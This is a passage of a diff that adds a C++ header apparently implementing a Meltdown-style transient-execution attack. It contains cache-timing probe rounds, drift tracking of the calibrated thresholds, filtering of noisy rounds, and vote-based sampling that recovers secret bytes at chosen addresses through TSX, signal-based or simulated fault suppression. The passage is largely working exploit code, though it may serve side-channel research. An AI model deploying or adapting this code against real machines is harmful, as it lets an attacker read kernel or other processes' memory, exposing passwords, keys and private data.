+// the calibration. Idle until started with a calibration, and for good with
+// an interval of zero.
+class DriftTracker {
+public:
+  size_t interval = kDefaultReferenceInterval;
+
+  bool active() const { return interval && miss_ > 0; }
+
+  void
+  start(Calibration const& calibration, uint32_t slow) {
+    hit_ = percentile(calibration.hits, 0.5);
+    miss_ = percentile(calibration.misses, 0.5);
+    position_ = (calibration.threshold - hit_) / (miss_ - hit_);
+    slow_share_ = slow / miss_;
+    reported_ = calibration.threshold;
+    rounds_ = 0;
+  }
+
+  // true if the reference probes are due after this round
+  bool due() { return active() && ++rounds_ % interval == 0; }
+  size_t references() const { return rounds_ / interval; }
+
+  // Folds in one pair of reference probes. A pair an interrupt landed in is
+  // ignored.
+  void
+  update(uint32_t hit, uint32_t miss) {
+    if (hit >= miss || miss > 4 * miss_) {
+      return;
+    }
+    hit_ += kDriftWeight * (hit - hit_);
+    miss_ += kDriftWeight * (miss - miss_);
+  }
+
+  size_t threshold() const { return (size_t)std::lround(hit_ + position_ * (miss_ - hit_)); }
+  uint32_t slow() const { return (uint32_t)std::lround(slow_share_ * miss_); }
+  uint32_t margin() const { return ambiguous_margin(hit_, miss_); }
+
+  // Returns true and records the threshold as reported if it moved far enough
+  // to be worth a drift event.
+  bool
+  drifted() {
+    size_t now = threshold();
+    size_t moved = now > reported_ ? now - reported_ : reported_ - now;
+    if (moved < kDriftEventShare * reported_) {
+      return false;
+    }
+    reported_ = now;
+    return true;
+  }
+
+  size_t reported() const { return reported_; }
+  uint32_t hit() const { return (uint32_t)std::lround(hit_); }
+  uint32_t miss() const { return (uint32_t)std::lround(miss_); }
+
+private:
+  double hit_ = 0;
+  double miss_ = 0;
+  double position_ = 0.5;
+  double slow_share_ = 1;
+  size_t reported_ = 0;
+  size_t rounds_ = 0;
+};
+
+struct Channel {
+  char * probe = nullptr;
+  size_t threshold = 0;
+  size_t max_samples = kDefaultMaxSamples;
+  size_t margin = kDefaultMargin;
+  RoundFilter filter;
+  DriftTracker drift;
+  ProbeOrder order = permuted_probe_order();
+  LayoutSpec layout;
+  Timer timer;
+  Backend backend = Backend::kSignal;
+  ChannelStatistics stats{};
+  TraceRecorder * recorder = nullptr;   // records every round if set
+  TimingSimulator * simulator = nullptr; // the cache of the simulated backend
+};
+
+// Probes the slots of the layout in channel.order. The access times are
+// stored by slot, so the order does not leak into the classification. With a
+// simulator the times come from its model instead.
+template <typename Layout = ByteLayout>
+inline
+void
+probe_round(Channel const& channel, AccessTimes & access_times) {
+  if (channel.simulator) {
+    channel.simulator->probe_round(SimulatedSuppression::take_encoded(), Layout::kSlots,
+                                   access_times);
+    return;
+  }
+  for (size_t k = 0; k < Layout::kSlots; ++k) {
+    size_t j = channel.order[k];
+    access_times[j] = probe_access_time(&channel.probe[j * Layout::kStride], channel.timer);
+  }
+}
+
+// Tells the recorder of channel, if any, the thresholds the following rounds
+// are classified with.
+inline
+void
+record_thresholds(Channel const& channel) {
+  if (channel.recorder) {
+    channel.recorder->set_thresholds((uint32_t)channel.threshold, channel.filter.slow,
+                                     channel.filter.min_margin);
+  }
+}
+
+// Sets the thresholds of channel from a calibration and starts tracking their
+// drift from there. The round filter learns the round cycles afresh, so runs
+// on one channel start alike.
+inline
+void
+apply_calibration(Channel & channel, Calibration const& calibration) {
+  channel.threshold = calibration.threshold;
+  channel.filter.round_cycles = 0;
+  channel.filter.slow = slow_threshold(calibration);
+  channel.filter.min_margin = ambiguous_margin(calibration);
+  channel.drift.start(calibration, channel.filter.slow);
+  record_thresholds(channel);
+}
+
+// Probes a known hit and a known miss after a round, if due, and moves the
+// thresholds with the drift they show. The hit comes first: a line touched
+// right after its flush is still in flight when probed. The reference slot
+// rotates through the layout, so no single line is favoured.
+template <typename Layout = ByteLayout>
+inline
+void
+probe_reference(Channel & channel) {
+  DriftTracker & drift = channel.drift;
+  if (!drift.due()) {
+    return;
+  }
+  uint32_t hit, miss;
+  if (channel.simulator) {
+    hit = channel.simulator->hit();
+    miss = channel.simulator->miss();
+  } else {
+    char * slot = &channel.probe[drift.references() % Layout::kSlots * Layout::kStride];
+    *(volatile char *)slot;
+    hit = probe_access_time(slot, channel.timer);
+    miss = probe_access_time(slot, channel.timer);
+  }
+  channel.stats.reference_probes++;
+  size_t before = drift.reported();
+  drift.update(hit, miss);
+  channel.threshold = drift.threshold();
+  channel.filter.slow = drift.slow();
+  channel.filter.min_margin = drift.margin();
+  record_thresholds(channel);
+  if (drift.drifted()) {
+    channel.stats.drift.push_back(DriftEvent{channel.stats.bytes, before, channel.threshold,
+                                             drift.hit(), drift.miss()});
+  }
+}
+
+// A round without any cache hit is a vote of its own: the secret byte is zero,
+// which the transient load never encodes, or the load was suppressed before
+// it could encode anything. It is the 257th candidate of the vote, whatever
+// the number of slots.
+const int kNoHit = 256;
+
+// The vote of a summarized round: the fastest slot, if it is a cache hit at
+// all, or kNoHit.
+inline
+int
+classify_summary(RoundSummary const& summary, size_t threshold) {
+  return summary.fastest <= threshold ? (int)summary.best : kNoHit;
+}
+
+inline
+uint32_t
+summary_threshold(size_t threshold) {
+  return (uint32_t)std::min<size_t>(threshold, UINT32_MAX);
+}
+
+// Classifies one round of access times in a single pass of the fastest
+// summary kernel.
+template <typename Layout = ByteLayout>
+inline
+int
+classify_round(AccessTimes const& access_times, size_t threshold) {
+  RoundSummary summary = summarize_round(access_times, Layout::kSlots,
+                                         summary_threshold(threshold));
+  return classify_summary(summary, threshold);
+}
+
+// Vote counters of one symbol. The leader and runner-up are maintained on
+// every vote so that the sequential test below is O(1) per round.
+struct VoteTally {
+  std::array<uint32_t, 257> scores{};
+  uint32_t votes = 0;
+  size_t leader = 0;
+  size_t runner_up = 1;
+
+  void
+  vote(size_t slot) {
+    scores[slot]++;
+    votes++;
+    if (slot == leader) {
+      return;
+    }
+    if (scores[slot] > scores[leader]) {
+      runner_up = leader;
+      leader = slot;
+    } else if (scores[slot] > scores[runner_up]) {
+      runner_up = slot;
+    }
+  }
+
+  uint32_t margin() const { return scores[leader] - scores[runner_up]; }
+};
+
+// The outcome of sampling one byte or symbol. The confidence is the share of
+// votes the value got; a symbol nobody voted for has confidence zero, a byte
+// is as confident as its least confident symbol.
+struct ByteSample {
+  unsigned char value;
+  bool no_hit;
+  float confidence;
+};
+
+inline
+ByteSample
+tally_result(VoteTally const& tally) {
+  ByteSample sample;
+  sample.no_hit = tally.leader == (size_t)kNoHit;
+  sample.value = sample.no_hit ? 0 : (unsigned char)tally.leader;
+  sample.confidence = tally.votes ? float(tally.scores[tally.leader]) / tally.votes : 0;
+  return sample;
+}
+
+// Samples each symbol of the byte in rounds until the leader is
+// channel.margin votes ahead of the runner-up, a simple sequential
+// probability ratio test, or until channel.max_samples rounds have been
+// spent. Zero bytes win through no-hit votes, so they stop as early as any
+// other value; a byte is only no-hit if all its symbols are. With a recorder
+// attached, every round is appended to the trace before it is classified,
+// poisoned rounds included. Discarded rounds do not count against
+// channel.max_samples.
+template <typename Suppression, typename Layout>
+inline
+ByteSample
+sample_byte(size_t address, Channel & channel) {
+  ByteSample sample{0, true, 1};
+  AccessTimes access_times;
+  PoisonStatistics & poisoned = channel.stats.poisoned;
+
+  for (size_t symbol = 0; symbol < Layout::kSymbols; ++symbol) {
+    size_t shift = symbol * Layout::kSymbolBits;
+    VoteTally tally;
+    size_t i = 0, retries = 0;
+    while (i < channel.max_samples && tally.margin() < channel.margin) {
+      uint64_t tsc = __rdtsc();
+      uint32_t outcome = leak<Suppression, Layout>(address, channel.probe,
+                                                   channel.stats.transient, shift);
+      probe_round<Layout>(channel, access_times);
+      uint64_t cycles = __rdtsc() - tsc;
+      probe_reference<Layout>(channel);
+
+      RoundSummary summary = summarize_round(access_times, Layout::kSlots,
+                                             summary_threshold(channel.threshold));
+      Poison poison = channel.filter.inspect(summary, cycles);
+      if (channel.recorder) {
+        channel.recorder->append(channel.stats.bytes, symbol, i + retries, tsc, outcome, cycles,
+                                 (uint8_t)poison, access_times, Layout::kSlots);
+      }
+      if (poison != Poison::kNone) {
+        count_poison(poisoned, poison);
+        if (retries < channel.filter.retries) {
+          ++retries;
+          ++poisoned.discarded;
+          continue;
+        }
+        ++poisoned.kept;
+      }
+      ++i;
+
+      int slot = classify_summary(summary, channel.threshold);
+      channel.stats.no_hit_rounds += slot == kNoHit;
+      tally.vote(slot);
+    }
+
+    ByteSample part = tally_result(tally);
+    sample.value |= part.value << shift;
+    sample.no_hit = sample.no_hit && part.no_hit;
+    sample.confidence = std::min(sample.confidence, part.confidence);
+    channel.stats.rounds += i + retries;
+  }
+
+  channel.stats.bytes++;
+  channel.stats.no_hit_bytes += sample.no_hit;
+  return sample;
+}
+
+// Dispatches to the layout selected in channel.layout.
+template <typename Suppression>
+inline
+ByteSample
+sample_byte(size_t address, Channel & channel) {
+  return with_layout(channel.layout, [&](auto layout) {
+    return sample_byte<Suppression, decltype(layout)>(address, channel);
+  });
+}
+
+// Dispatches to the suppression backend selected in channel.backend.
+inline
+ByteSample
+sample_byte(size_t address, Channel & channel) {
+  switch (channel.backend) {
+    case Backend::kTsx:       return sample_byte<TsxSuppression>(address, channel);
+    case Backend::kSignal:    return sample_byte<SignalSuppression>(address, channel);
+    case Backend::kSimulated: return sample_byte<SimulatedSuppression>(address, channel);
+    case Backend::kBaseline:  return sample_byte<NoSuppression>(address, channel);
+  }
+  return ByteSample{0, true, 0};
+}
+
+#endif // MELTDOWN_H